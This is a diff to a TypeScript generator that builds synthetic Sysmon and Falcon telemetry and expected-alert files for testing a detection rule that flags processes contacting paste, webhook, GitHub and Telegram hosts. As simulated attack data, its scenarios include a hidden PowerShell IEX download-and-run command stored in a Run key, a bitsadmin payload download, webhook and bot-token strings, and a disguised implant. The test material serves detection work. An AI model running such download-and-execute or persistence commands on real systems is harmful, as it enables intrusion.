@@ -11,8 +11,10 @@
  * `shared/datasets/`.
  *
  * Every DNS or connection step says, by hand, which domain it must alert on in each format
- * (`expect`), reasoned from SPEC §1–§2; the expected CSV (SPEC §3) is only the grouping of those
- * annotations. No detection code is involved, so the files can judge the detection code.
+ * (`expect`), reasoned from SPEC §1–§2 (rule version 2); so does every process start whose command
+ * line names listed hosts in URLs (one event per host, rule v2). The expected CSV (SPEC §3) is
+ * only the grouping of those annotations. No detection code is involved, so the files can judge
+ * the detection code.
  *
  * Deterministic: no clock, no Math.random; ids and hashes are derived from fixed strings, and
  * gzip output depends only on the input bytes.
@@ -65,6 +67,12 @@ interface ProcDef {
 /** The domain a DNS/connection step must alert on: one for both formats, or per format. */
 type Expect = string | { sysmon?: string; falcon?: string };
 
+/**
+ * The hosts a process start must alert on (SPEC §1: a listed host in a URL of its command line,
+ * one event per distinct host, at the process record's own time): for both formats, or per format.
+ */
+type StartExpect = string[] | { sysmon?: string[]; falcon?: string[] };
+
 interface BaseStep {
   p: string;
   /** `HH:MM:SS.mmm` on the scenario day. */
@@ -82,6 +90,7 @@ interface StartStep {
   falcon?: 'pr2' | 'synthetic' | false;
   /** When the synthetic record is emitted (it is not the process start). */
   at?: string;
+  expect?: StartExpect;
 }
 
 interface DnsStep extends BaseStep {
@@ -352,6 +361,16 @@ function csvField(value: string): string {
 function expectFor(expect: Expect | undefined, format: Format): string | undefined {
   if (expect === undefined || typeof expect === 'string') return expect;
   return expect[format];
+}
+
+function startExpectFor(expect: StartExpect | undefined, format: Format): string[] {
+  if (expect === undefined) return [];
+  return Array.isArray(expect) ? expect : (expect[format] ?? []);
+}
+
+/** Whether a format writes a process record for this start step. */
+function startRendered(step: StartStep, format: Format): boolean {
+  return format === 'sysmon' ? step.sysmon !== false : step.falcon !== false;
 }
 
 function proc(s: Scenario, key: string): ProcDef {
@@ -675,6 +694,11 @@ class FalconWriter {
   private n = 0;
   private port = EPHEMERAL_PORT_BASE + 1;
   readonly lines: string[] = [];
+  /**
+   * The `timestamp` written on each process record. It has no `ContextTimeStamp`, so this is the
+   * time a process-start event takes (SPEC §2: `ContextTimeStamp`, else `timestamp`).
+   */
+  readonly startTimes = new Map<StartStep, number>();
 
   constructor(private readonly s: Scenario) {}
 
@@ -733,6 +757,8 @@ class FalconWriter {
         const ms = step.at === undefined ? started : timeOf(s, step.at);
         const simple = kind === 'synthetic' ? 'SyntheticProcessRollup2' : 'ProcessRollup2';
         const version = kind === 'synthetic' ? 'V3' : linux ? 'LinV12' : 'V19';
+        const tail = this.tail(ms, false);
+        this.startTimes.set(step, Number(tail.timestamp));
         this.push({
           event_simpleName: simple,
           name: `${simple}${version}`,
@@ -745,7 +771,7 @@ class FalconWriter {
           UserName: falconUser(p.user),
           ...(linux ? {} : { UserSid: userSid(s.domainSid, p.user) }),
           ProcessStartTime: falconSeconds(started),
-          ...this.tail(ms, false),
+          ...tail,
         });
         return;
       }
@@ -836,12 +862,12 @@ class FalconWriter {
   }
 }
 
-function renderFalcon(s: Scenario): string {
+function renderFalcon(s: Scenario): { text: string; startTimes: Map<StartStep, number> } {
   const writer = new FalconWriter(s);
   if (s.aidmasterFirst) writer.aidmaster();
   for (const step of s.steps) if (emitted(step, 'falcon')) writer.write(step);
   if (!s.aidmasterFirst) writer.aidmaster();
-  return `${writer.lines.join('\n')}\n`;
+  return { text: `${writer.lines.join('\n')}\n`, startTimes: writer.startTimes };
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -858,38 +884,80 @@ interface Group {
   last: number;
 }
 
-function expectedCsv(s: Scenario, format: Format): string {
-  const groups = new Map<string, Group>();
-  for (const step of s.steps) {
-    if (step.t !== 'dns' && step.t !== 'net') continue;
-    if (!emitted(step, format)) {
-      // A plain string applies to the formats the step is rendered in; a per-format
-      // expectation for a format that never sees the step is a mistake in the scenario.
-      if (typeof step.expect === 'object' && step.expect[format] !== undefined) {
-        throw new Error(`${s.name}: ${format} expects an alert from a step it does not render`);
-      }
-      continue;
+/** One hand-annotated alerting event: the process, the observed host and the event time. */
+interface Hit {
+  p: string;
+  domain: string;
+  ms: number;
+}
+
+/** Process starts: each annotated host is one event at the time of the process record. */
+function startHits(
+  s: Scenario,
+  step: StartStep,
+  format: Format,
+  startTimes: Map<StartStep, number>,
+): Hit[] {
+  const hosts = startExpectFor(step.expect, format);
+  if (hosts.length === 0) return [];
+  if (!startRendered(step, format)) {
+    throw new Error(`${s.name}: ${format} expects an alert from a start it does not render`);
+  }
+  const p = proc(s, step.p);
+  for (const host of hosts) {
+    // A guard against typos in the annotation, not a detection: the host must be in a URL.
+    if (
+      !new RegExp(`(https?|ftp)://${host.replaceAll('.', '\\.')}[^a-z0-9.-]`, 'i').test(`${p.cmd} `)
+    ) {
+      throw new Error(`${s.name}: ${step.p}'s command line names no URL on ${host}`);
     }
-    const domain = expectFor(step.expect, format);
-    if (domain === undefined) continue;
-    const p = proc(s, step.p);
+  }
+  const ms = format === 'sysmon' ? timeOf(s, p.start) : startTimes.get(step);
+  if (ms === undefined) throw new Error(`${s.name}: no Falcon record written for ${step.p}`);
+  return hosts.map((domain) => ({ p: step.p, domain, ms }));
+}
+
+/** DNS queries and connections: the annotated domain, at the step's time. */
+function stepHit(s: Scenario, step: DnsStep | NetStep, format: Format): Hit[] {
+  if (!emitted(step, format)) {
+    // A plain string applies to the formats the step is rendered in; a per-format
+    // expectation for a format that never sees the step is a mistake in the scenario.
+    if (typeof step.expect === 'object' && step.expect[format] !== undefined) {
+      throw new Error(`${s.name}: ${format} expects an alert from a step it does not render`);
+    }
+    return [];
+  }
+  const domain = expectFor(step.expect, format);
+  return domain === undefined ? [] : [{ p: step.p, domain, ms: timeOf(s, step.at) }];
+}
+
+function expectedCsv(s: Scenario, format: Format, startTimes: Map<StartStep, number>): string {
+  const groups = new Map<string, Group>();
+  const hits = s.steps.flatMap((step) =>
+    step.t === 'start'
+      ? startHits(s, step, format, startTimes)
+      : step.t === 'dns' || step.t === 'net'
+        ? stepHit(s, step, format)
+        : [],
+  );
+  for (const hit of hits) {
+    const p = proc(s, hit.p);
     if (p.unknown) throw new Error(`${s.name}: an unknown process cannot alert`);
     const user = format === 'falcon' ? falconUser(p.user) : p.user;
     const g: Group = {
       host: s.host,
       user,
       process: basename(p.image).toLowerCase(),
-      domain: domain.toLowerCase().replace(/\.$/, ''),
+      domain: hit.domain.toLowerCase().replace(/\.$/, ''),
       count: 0,
       first: Number.POSITIVE_INFINITY,
       last: Number.NEGATIVE_INFINITY,
     };
     const key = [g.host, g.user, g.process, g.domain].join('\u0000');
     const group = groups.get(key) ?? g;
-    const ms = timeOf(s, step.at);
     group.count += 1;
-    group.first = Math.min(group.first, ms);
-    group.last = Math.max(group.last, ms);
+    group.first = Math.min(group.first, hit.ms);
+    group.last = Math.max(group.last, hit.ms);
     groups.set(key, group);
   }
   const cmp = (a: string, b: string) => (a < b ? -1 : a > b ? 1 : 0);
@@ -1066,6 +1134,22 @@ function pastebinScenario(): Scenario {
         start: '09:40:51.330',
         pid: 2260,
       },
+      bitsadmin: {
+        image: 'C:\\Windows\\System32\\bitsadmin.exe',
+        cmd: 'bitsadmin.exe /transfer WinUpd /download /priority FOREGROUND https://raw.githubusercontent.com/n0va-tools/ps-utils/main/Invoke-Update.ps1 C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.ps1',
+        user,
+        parent: 'ps',
+        start: '09:16:40.118',
+        pid: 9376,
+      },
+      bits: {
+        image: SVCHOST,
+        cmd: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS',
+        user: SYSTEM,
+        parent: 'services',
+        start: '2024-01-01T00:00:00.000Z',
+        pid: 1388,
+      },
       renamed: {
         image: 'C:\\Users\\Public\\chrome.exe',
         originalFileName: 'PowerShell.EXE',
@@ -1078,6 +1162,7 @@ function pastebinScenario(): Scenario {
     },
     steps: [
       { t: 'start', p: 'chrome', sysmon: false, falcon: 'synthetic', at: '09:05:00.116' },
+      { t: 'start', p: 'bits', sysmon: false, falcon: 'synthetic', at: '09:05:00.131' },
       { t: 'access', p: 'msmpeng', target: 'chrome', at: '09:05:12.733', access: '0x1000' },
       {
         t: 'reg',
@@ -1087,8 +1172,11 @@ function pastebinScenario(): Scenario {
         value: 'DynamicInfo',
         details: 'Binary Data',
       },
-      { t: 'start', p: 'cmd' },
-      { t: 'start', p: 'ps' },
+      // Both command lines name pastebin.com in a URL, and cmd.exe and powershell.exe are suspicious:
+      // each start is an event (rule v2). conhost's ParentCommandLine names it too, but that is
+      // the parent's command line, not conhost's.
+      { t: 'start', p: 'cmd', expect: ['pastebin.com'] },
+      { t: 'start', p: 'ps', expect: ['pastebin.com'] },
       { t: 'start', p: 'conhost' },
       { t: 'load', p: 'ps', at: '09:14:22.090', dll: 'sma' },
       { t: 'access', p: 'msmpeng', target: 'ps', at: '09:14:22.155', access: '0x101000' },
@@ -1111,14 +1199,17 @@ function pastebinScenario(): Scenario {
         ips: GITHUB_CDN_IPS,
         expect: 'raw.githubusercontent.com',
       },
-      // Sysmon's reverse lookup names the CDN node, which is not a listed host: the DNS join wins.
+      // Sysmon's reverse lookup names the CDN node, cdn-185-199-110-133.github.com. Rule v2 lists
+      // github.com (medium), so that name is listed and usable as it is: the DNS join applies only
+      // to a missing or unlisted name (SPEC §2). Falcon has no reverse name: its DNS join names
+      // the connection raw.githubusercontent.com.
       {
         t: 'net',
         p: 'ps',
         at: '09:14:23.067',
         ip: '185.199.110.133',
         rdns: 'cdn-185-199-110-133.github.com',
-        expect: 'raw.githubusercontent.com',
+        expect: { sysmon: 'cdn-185-199-110-133.github.com', falcon: 'raw.githubusercontent.com' },
       },
       {
         t: 'file',
@@ -1135,7 +1226,32 @@ function pastebinScenario(): Scenario {
         value: 'WindowsUpdateSvc',
         details: `powershell.exe -NoP -W Hidden -C "IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/9ZQ3vK1p')"`,
       },
-      // Chrome reading the same paste: an excluded client.
+      // A BITS job: bitsadmin makes no connection of its own, the BITS service does. Only its
+      // command line names raw.githubusercontent.com (rule v2: a process-start event). The
+      // service, svchost.exe in System32 started by services.exe, matches no branch.
+      { t: 'start', p: 'bitsadmin', expect: ['raw.githubusercontent.com'] },
+      {
+        t: 'dns',
+        p: 'bits',
+        at: '09:16:40.502',
+        name: 'raw.githubusercontent.com',
+        ips: GITHUB_CDN_IPS,
+      },
+      {
+        t: 'net',
+        p: 'bits',
+        at: '09:16:40.519',
+        ip: '185.199.109.133',
+        rdns: 'cdn-185-199-109-133.github.com',
+      },
+      {
+        t: 'file',
+        p: 'bits',
+        at: '09:16:40.911',
+        path: 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.ps1',
+      },
+      { t: 'end', p: 'bitsadmin', at: '09:16:41.230' },
+      // Chrome reading the same paste: an excluded client where it lives.
       { t: 'dns', p: 'chrome', at: '09:20:03.117', name: 'pastebin.com', ips: PASTEBIN_IPS },
       { t: 'net', p: 'chrome', at: '09:20:03.140', ip: '104.20.67.143' },
       {
@@ -1168,7 +1284,8 @@ function pastebinScenario(): Scenario {
         expect: 'pastebin.com',
       },
       { t: 'net', p: 'ps', at: '09:29:22.519', ip: '172.67.34.170', expect: 'pastebin.com' },
-      // Look-alikes on the label boundary: neither is pastebin.com.
+      // Look-alikes on the label boundary, in the command line and the queries: neither is
+      // pastebin.com.
       { t: 'start', p: 'lookalike' },
       {
         t: 'dns',
@@ -1187,10 +1304,12 @@ function pastebinScenario(): Scenario {
       },
       { t: 'net', p: 'lookalike', at: '09:35:01.889', ip: '185.234.72.19' },
       { t: 'end', p: 'lookalike', at: '09:35:02.410' },
-      // PowerShell renamed to chrome.exe: Sysmon's OriginalFileName still says PowerShell.
-      // Falcon has no OriginalFileName, so there the process is an excluded chrome.exe.
+      // PowerShell renamed to chrome.exe in C:\Users\Public: not where Chrome lives, so not an
+      // excluded client (rule v2). Sysmon's OriginalFileName still says PowerShell (branch a);
+      // Falcon has no OriginalFileName, but a high-tier domain from a user-writable path is
+      // branch c. Its command line names pastebin.com: the start is an event too.
       { t: 'start', p: 'cmd2' },
-      { t: 'start', p: 'renamed' },
+      { t: 'start', p: 'renamed', expect: ['pastebin.com'] },
       { t: 'load', p: 'renamed', at: '09:41:10.512', dll: 'sma' },
       {
         t: 'dns',
@@ -1198,15 +1317,9 @@ function pastebinScenario(): Scenario {
         at: '09:41:10.905',
         name: 'pastebin.com',
         ips: ['172.67.34.170', '104.20.67.143', '104.20.68.143'],
-        expect: { sysmon: 'pastebin.com' },
+        expect: 'pastebin.com',
       },
-      {
-        t: 'net',
-        p: 'renamed',
-        at: '09:41:10.921',
-        ip: '104.20.68.143',
-        expect: { sysmon: 'pastebin.com' },
-      },
+      { t: 'net', p: 'renamed', at: '09:41:10.921', ip: '104.20.68.143', expect: 'pastebin.com' },
       { t: 'end', p: 'renamed', at: '09:41:12.004' },
       {
         t: 'file',
@@ -1228,6 +1341,7 @@ function graphScenario(): Scenario {
     'C:\\Program Files\\WindowsApps\\MSTeams_24060.2623.2790.8046_x64__8wekyb3d8bbwe\\ms-teams.exe';
   const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
   const updater = 'C:\\Users\\asmith\\AppData\\Local\\Temp\\updater.exe';
+  const zoom = 'C:\\Users\\asmith\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe';
   return {
     ...base,
     date: '2024-04-17',
@@ -1262,7 +1376,7 @@ function graphScenario(): Scenario {
       },
       intune: {
         image: PS,
-        cmd: `"${PS}" -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\Contoso\\InventorySync\\Sync-Devices.ps1"`,
+        cmd: `"${PS}" -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\Contoso\\InventorySync\\Sync-Devices.ps1" -GraphUri https://graph.microsoft.com/v1.0`,
         user: 'CORP\\svc_intune',
         parent: 'svchost',
         start: '2024-04-17T12:00:04.310Z',
@@ -1286,11 +1400,19 @@ function graphScenario(): Scenario {
       },
       msedge: {
         image: MSEDGE,
-        cmd: `"${MSEDGE}" --single-argument https://outlook.office.com/`,
+        cmd: `"${MSEDGE}" --single-argument https://contoso.sharepoint.com/sites/Finance/Shared%20Documents/Q2.xlsx`,
         user,
         parent: 'explorer',
         start: '2024-04-17T08:02:10.552Z',
         pid: 9544,
+      },
+      zoom: {
+        image: zoom,
+        cmd: `"${zoom}" "--autostart"`,
+        user,
+        parent: 'explorer',
+        start: '2024-04-17T07:41:27.015Z',
+        pid: 7460,
       },
       word: {
         image: word,
@@ -1312,7 +1434,10 @@ function graphScenario(): Scenario {
     steps: [
       { t: 'start', p: 'onedrive', sysmon: false, falcon: 'synthetic', at: '12:55:00.020' },
       { t: 'start', p: 'teams', sysmon: false, falcon: 'synthetic', at: '12:55:00.031' },
+      // Edge opened a SharePoint link: sharepoint.com is listed, but Edge where it lives is an
+      // excluded client, so its process record is no event.
       { t: 'start', p: 'msedge', sysmon: false, falcon: 'synthetic', at: '12:55:00.047' },
+      { t: 'start', p: 'zoom', sysmon: false, falcon: 'synthetic', at: '12:55:00.059' },
       {
         t: 'dns',
         p: 'onedrive',
@@ -1341,7 +1466,8 @@ function graphScenario(): Scenario {
       },
       { t: 'net', p: 'teams', at: '12:58:02.139', ip: '20.190.151.131' },
       { t: 'start', p: 'shell', sysmon: false, falcon: 'synthetic', at: '12:58:40.300' },
-      { t: 'start', p: 'ps' },
+      // Its command line names graph.microsoft.com twice: one process-start event.
+      { t: 'start', p: 'ps', expect: ['graph.microsoft.com'] },
       { t: 'load', p: 'ps', at: '13:02:11.902', dll: 'sma' },
       {
         t: 'dns',
@@ -1366,7 +1492,9 @@ function graphScenario(): Scenario {
       { t: 'end', p: 'ps', at: '13:02:13.655' },
       // An inventory script that started before the batch: no EventID 1. Sysmon's DNS event has
       // no User, so the user comes from the connection of the same ProcessGuid (written later);
-      // Falcon names the process by a SyntheticProcessRollup2 that also comes later.
+      // Falcon names the process by a SyntheticProcessRollup2 that also comes later. That record
+      // is a process record like any other: its command line names graph.microsoft.com, so it is
+      // an event in Falcon, at its own `timestamp` (after the connection).
       {
         t: 'dns',
         p: 'intune',
@@ -1376,7 +1504,14 @@ function graphScenario(): Scenario {
         ips: ['20.190.151.7', '20.190.151.70'],
         expect: 'graph.microsoft.com',
       },
-      { t: 'start', p: 'intune', sysmon: false, falcon: 'synthetic', at: '13:05:40.126' },
+      {
+        t: 'start',
+        p: 'intune',
+        sysmon: false,
+        falcon: 'synthetic',
+        at: '13:05:40.126',
+        expect: { falcon: ['graph.microsoft.com'] },
+      },
       {
         t: 'net',
         p: 'intune',
@@ -1393,6 +1528,18 @@ function graphScenario(): Scenario {
         ips: ['20.190.151.9', '20.190.151.68'],
       },
       { t: 'net', p: 'msedge', at: '13:06:18.761', ip: '20.190.151.9' },
+      // A per-user install in AppData syncing its Outlook calendar: a user-writable path, but
+      // graph.microsoft.com is medium tier, which branch c never matches; Zoom is not suspicious
+      // and its parent is Explorer.
+      {
+        t: 'dns',
+        p: 'zoom',
+        at: '13:07:02.336',
+        name: 'graph.microsoft.com',
+        cnames: GRAPH_CNAMES,
+        ips: ['20.190.151.131', '20.190.151.7'],
+      },
+      { t: 'net', p: 'zoom', at: '13:07:02.358', ip: '20.190.151.131' },
       // Word opens a macro document; Word itself talking to Graph is not suspicious ...
       { t: 'start', p: 'word' },
       { t: 'load', p: 'word', at: '13:10:03.410', dll: 'vbe7' },
@@ -1559,7 +1706,8 @@ function linuxCurlScenario(): Scenario {
     steps: [
       { t: 'start', p: 'bash', sysmon: false, falcon: 'synthetic', at: '22:40:00.010' },
       { t: 'start', p: 'firefox', sysmon: false, falcon: 'synthetic', at: '22:40:00.022' },
-      { t: 'start', p: 'curl' },
+      // curl's command line names raw.githubusercontent.com: the start is an event (rule v2).
+      { t: 'start', p: 'curl', expect: ['raw.githubusercontent.com'] },
       // Sysmon for Linux has no DNS event and no reverse lookup: the connection is named only
       // by the listed host in curl's own command line. Falcon has the DnsRequest.
       {
@@ -1596,34 +1744,45 @@ function linuxCurlScenario(): Scenario {
         only: 'falcon',
       },
       { t: 'net', p: 'firefox', at: '22:42:15.902', ip: '185.199.110.133' },
-      // github.com is not api.github.com or gist.github.com.
-      { t: 'start', p: 'curlGithub' },
+      // Rule v2 lists github.com (medium tier): curl is suspicious, so its start, its query and
+      // its connection (named in Sysmon by the host in its command line) all match.
+      { t: 'start', p: 'curlGithub', expect: ['github.com'] },
       {
         t: 'dns',
         p: 'curlGithub',
         at: '22:43:30.020',
         name: 'github.com',
         ips: ['140.82.113.4'],
+        expect: 'github.com',
         only: 'falcon',
       },
-      { t: 'net', p: 'curlGithub', at: '22:43:30.041', ip: '140.82.113.4' },
+      { t: 'net', p: 'curlGithub', at: '22:43:30.041', ip: '140.82.113.4', expect: 'github.com' },
       { t: 'end', p: 'curlGithub', at: '22:43:30.288' },
-      // Same address curl used, resolved by another process for a host that is not listed.
-      { t: 'start', p: 'wget' },
+      // The address curl resolved for raw.githubusercontent.com, resolved by wget for
+      // objects.githubusercontent.com (high tier in rule v2). wget's connection is named by its
+      // own query (Falcon) or its own command line (Sysmon), never by curl's answer.
+      { t: 'start', p: 'wget', expect: ['objects.githubusercontent.com'] },
       {
         t: 'dns',
         p: 'wget',
         at: '22:44:02.604',
         name: 'objects.githubusercontent.com',
         ips: ['185.199.109.133', '185.199.108.133'],
+        expect: 'objects.githubusercontent.com',
         only: 'falcon',
       },
-      { t: 'net', p: 'wget', at: '22:44:02.622', ip: '185.199.109.133' },
+      {
+        t: 'net',
+        p: 'wget',
+        at: '22:44:02.622',
+        ip: '185.199.109.133',
+        expect: 'objects.githubusercontent.com',
+      },
       { t: 'file', p: 'wget', at: '22:44:03.915', path: '/tmp/ne.tgz', only: 'sysmon' },
       { t: 'end', p: 'wget', at: '22:44:03.921' },
       // A versioned python3.N from a deploy job: the rule fires (the seeds' false-positive note).
       { t: 'start', p: 'deployShell' },
-      { t: 'start', p: 'python' },
+      { t: 'start', p: 'python', expect: ['api.github.com'] },
       {
         t: 'dns',
         p: 'python',
@@ -1659,6 +1818,8 @@ function discordScenario(): Scenario {
   const discord = 'C:\\Users\\mlee\\AppData\\Local\\Discord\\app-1.0.9157\\Discord.exe';
   const slack = 'C:\\Users\\mlee\\AppData\\Local\\slack\\app-4.39.95\\slack.exe';
   const webhook = 'api/webhooks/1275473819028230144/Yq2kP0vD8nWmT4xRb7cLs1';
+  const outlook = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE';
+  const impostor = 'C:\\Users\\mlee\\AppData\\Roaming\\slack.exe';
   return {
     ...base,
     date: '2024-08-20',
@@ -1723,11 +1884,28 @@ function discordScenario(): Scenario {
         start: '15:33:05.870',
         pid: 10536,
       },
+      outlook: {
+        image: outlook,
+        cmd: `"${outlook}" `,
+        user,
+        parent: 'explorer',
+        start: '2024-08-20T08:16:02.731Z',
+        pid: 6604,
+      },
+      impostor: {
+        image: impostor,
+        cmd: `"${impostor}" --startup`,
+        user,
+        parent: 'outlook',
+        start: '15:41:17.402',
+        pid: 11220,
+      },
     },
     steps: [
       { t: 'start', p: 'discord', sysmon: false, falcon: 'synthetic', at: '15:20:00.005' },
       { t: 'start', p: 'slack', sysmon: false, falcon: 'synthetic', at: '15:20:00.013' },
       { t: 'start', p: 'msedge', sysmon: false, falcon: 'synthetic', at: '15:20:00.021' },
+      { t: 'start', p: 'outlook', sysmon: false, falcon: 'synthetic', at: '15:20:00.034' },
       {
         t: 'dns',
         p: 'discord',
@@ -1750,6 +1928,8 @@ function discordScenario(): Scenario {
         ips: ['162.159.129.233', '162.159.130.233'],
       },
       { t: 'net', p: 'discord', at: '15:21:49.041', ip: '162.159.129.233' },
+      // Discord, Slack and Edge at their homes are excluded clients (rule v2 lists slack.com,
+      // so app.slack.com is a listed name here).
       {
         t: 'dns',
         p: 'slack',
@@ -1781,7 +1961,8 @@ function discordScenario(): Scenario {
         ip: '185.199.111.133',
         rdns: 'cdn-185-199-111-133.github.com',
       },
-      { t: 'start', p: 'ps' },
+      // The command line names both webhook hosts: two process-start events (rule v2).
+      { t: 'start', p: 'ps', expect: ['discord.com', 'discordapp.com'] },
       { t: 'start', p: 'conhost' },
       { t: 'access', p: 'msmpeng', target: 'ps', at: '15:27:40.610', access: '0x101000' },
       { t: 'load', p: 'ps', at: '15:27:40.702', dll: 'winhttp' },
@@ -1821,16 +2002,28 @@ function discordScenario(): Scenario {
       { t: 'net', p: 'ps', at: '15:27:41.719', ip: '162.159.135.232', expect: 'discord.com' },
       { t: 'end', p: 'conhost', at: '15:27:42.511' },
       { t: 'end', p: 'ps', at: '15:27:42.530' },
-      // Not listed: github.com, then its release CDN on the very address Edge resolved for
-      // raw.githubusercontent.com. Names from another process must not be borrowed.
-      { t: 'start', p: 'gh' },
-      { t: 'dns', p: 'gh', at: '15:33:06.402', name: 'github.com', ips: ['140.82.121.4'] },
+      // PowerShell downloading a GitHub release: github.com (medium) in its command line and its
+      // query, then the release CDN objects.githubusercontent.com (high) on the very address
+      // Edge resolved for raw.githubusercontent.com. Rule v2 lists both, so this now alerts.
+      // Sysmon's reverse names end in .github.com: listed, so each connection keeps its own
+      // reverse name (SPEC §2 joins only a missing or unlisted name). Falcon has no reverse
+      // name: each connection is named by this process's own answer, never by Edge's.
+      { t: 'start', p: 'gh', expect: ['github.com'] },
+      {
+        t: 'dns',
+        p: 'gh',
+        at: '15:33:06.402',
+        name: 'github.com',
+        ips: ['140.82.121.4'],
+        expect: 'github.com',
+      },
       {
         t: 'net',
         p: 'gh',
         at: '15:33:06.418',
         ip: '140.82.121.4',
         rdns: 'lb-140-82-121-4-fra.github.com',
+        expect: { sysmon: 'lb-140-82-121-4-fra.github.com', falcon: 'github.com' },
       },
       {
         t: 'dns',
@@ -1838,6 +2031,7 @@ function discordScenario(): Scenario {
         at: '15:33:06.930',
         name: 'objects.githubusercontent.com',
         ips: ['185.199.111.133', '185.199.108.133', '185.199.109.133', '185.199.110.133'],
+        expect: 'objects.githubusercontent.com',
       },
       {
         t: 'net',
@@ -1845,6 +2039,10 @@ function discordScenario(): Scenario {
         at: '15:33:06.947',
         ip: '185.199.111.133',
         rdns: 'cdn-185-199-111-133.github.com',
+        expect: {
+          sysmon: 'cdn-185-199-111-133.github.com',
+          falcon: 'objects.githubusercontent.com',
+        },
       },
       {
         t: 'file',
@@ -1869,6 +2067,44 @@ function discordScenario(): Scenario {
         ips: ['162.159.135.232', '162.159.136.232'],
       },
       { t: 'net', p: 'discord', at: '15:36:12.921', ip: '162.159.135.232' },
+      // An impostor: slack.exe in AppData\Roaming, opened from Outlook. Slack lives under \slack\,
+      // so this one is not an excluded client (rule v2). Outlook is an Office parent (branch b),
+      // which also makes medium-tier slack.com match; hooks.slack.com is high tier (the longest
+      // listed domain it ends with) and the path is user-writable (branch c as well).
+      { t: 'start', p: 'impostor' },
+      { t: 'access', p: 'msmpeng', target: 'impostor', at: '15:41:17.690', access: '0x101000' },
+      {
+        t: 'dns',
+        p: 'impostor',
+        at: '15:41:18.204',
+        name: 'slack.com',
+        ips: ['54.174.193.102', '3.95.117.96'],
+        expect: 'slack.com',
+      },
+      { t: 'net', p: 'impostor', at: '15:41:18.229', ip: '54.174.193.102', expect: 'slack.com' },
+      {
+        t: 'dns',
+        p: 'impostor',
+        at: '15:41:19.016',
+        name: 'hooks.slack.com',
+        ips: ['34.225.241.48', '52.6.112.19'],
+        expect: 'hooks.slack.com',
+      },
+      {
+        t: 'net',
+        p: 'impostor',
+        at: '15:41:19.040',
+        ip: '34.225.241.48',
+        expect: 'hooks.slack.com',
+      },
+      {
+        t: 'reg',
+        p: 'impostor',
+        at: '15:41:19.522',
+        key: `HKU\\${userSid(sid, user)}\\${RUN_KEY}`,
+        value: 'Slack',
+        details: `"${impostor}" --startup`,
+      },
     ],
   };
 }
@@ -1884,6 +2120,7 @@ function telegramScenario(): Scenario {
   const telegram = 'C:\\Users\\rpatel\\AppData\\Roaming\\Telegram Desktop\\Telegram.exe';
   const dropbox = 'C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe';
   const token = '7351984262:AAHk3v9QbZ1xwLpE0sD4fGhJ';
+  const implant = 'C:\\Users\\rpatel\\AppData\\Roaming\\Microsoft\\Network\\RuntimeBroker.exe';
   return {
     ...base,
     date: '2024-10-29',
@@ -1973,6 +2210,14 @@ function telegramScenario(): Scenario {
         start: '2024-10-29T07:20:13.118Z',
         pid: 4816,
       },
+      implant: {
+        image: implant,
+        cmd: `"${implant}" -Embedding`,
+        user,
+        parent: 'svchost',
+        start: '08:06:00.114',
+        pid: 10904,
+      },
     },
     steps: [
       { t: 'start', p: 'telegram', sysmon: false, falcon: 'synthetic', at: '07:45:00.004' },
@@ -2005,7 +2250,8 @@ function telegramScenario(): Scenario {
         path: 'C:\\Users\\rpatel\\AppData\\Local\\Programs\\Python\\Python312\\Scripts\\normalizer.exe',
       },
       { t: 'end', p: 'pip', at: '07:52:14.611' },
-      // Telegram Desktop polling the Bot API host is neither suspicious nor Office-spawned.
+      // Telegram Desktop polling the Bot API host: it lives in AppData, which branch c would match
+      // with this high-tier host, but it is an excluded client where it lives (\telegram desktop\).
       {
         t: 'dns',
         p: 'telegram',
@@ -2015,7 +2261,8 @@ function telegramScenario(): Scenario {
       },
       { t: 'net', p: 'telegram', at: '07:53:40.027', ip: '149.154.167.220' },
       // The test: python.exe polling getUpdates twice.
-      { t: 'start', p: 'python' },
+      // The URL in its command line makes the start an event too (rule v2).
+      { t: 'start', p: 'python', expect: ['api.telegram.org'] },
       { t: 'access', p: 'msmpeng', target: 'python', at: '07:55:31.301', access: '0x1000' },
       { t: 'load', p: 'python', at: '07:55:31.420', dll: 'ssl' },
       {
@@ -2049,8 +2296,9 @@ function telegramScenario(): Scenario {
         expect: 'api.telegram.org',
       },
       { t: 'end', p: 'python', at: '07:55:32.880' },
-      // curl keeps the host's case as typed: grouping lower-cases it.
-      { t: 'start', p: 'curl' },
+      // curl keeps the host's case as typed, in its command line and its query: grouping
+      // lower-cases it.
+      { t: 'start', p: 'curl', expect: ['api.telegram.org'] },
       {
         t: 'dns',
         p: 'curl',
@@ -2113,6 +2361,34 @@ function telegramScenario(): Scenario {
         value: 'Index',
         details: 'DWORD (0x00000003)',
       },
+      // A dropped implant in %APPDATA% run by a scheduled task, posing as RuntimeBroker.exe: not
+      // suspicious, parent svchost.exe, but a user-writable path talking to high-tier Telegram
+      // hosts (the Bot API and a t.me channel page as a dead drop): branch c (rule v2).
+      { t: 'start', p: 'implant' },
+      {
+        t: 'dns',
+        p: 'implant',
+        at: '08:06:01.302',
+        name: 't.me',
+        ips: ['149.154.167.99'],
+        expect: 't.me',
+      },
+      { t: 'net', p: 'implant', at: '08:06:01.327', ip: '149.154.167.99', expect: 't.me' },
+      {
+        t: 'dns',
+        p: 'implant',
+        at: '08:06:02.118',
+        name: 'api.telegram.org',
+        ips: ['149.154.167.220'],
+        expect: 'api.telegram.org',
+      },
+      {
+        t: 'net',
+        p: 'implant',
+        at: '08:06:02.141',
+        ip: '149.154.167.220',
+        expect: 'api.telegram.org',
+      },
       // A short-lived process Sysmon could not name: nothing can be said about it.
       {
         t: 'dns',
@@ -2145,11 +2421,14 @@ const scenarios = [
 
 for (const s of scenarios) {
   const sysmon = renderSysmon(s);
-  const falcon = renderFalcon(s);
+  const { text: falcon, startTimes } = renderFalcon(s);
   write(join(OUT_DIR, 'sysmon', `${s.name}.xml.gz`), gzipSync(sysmon));
   write(join(OUT_DIR, 'falcon', `${s.name}.fdr.ndjson.gz`), gzipSync(falcon));
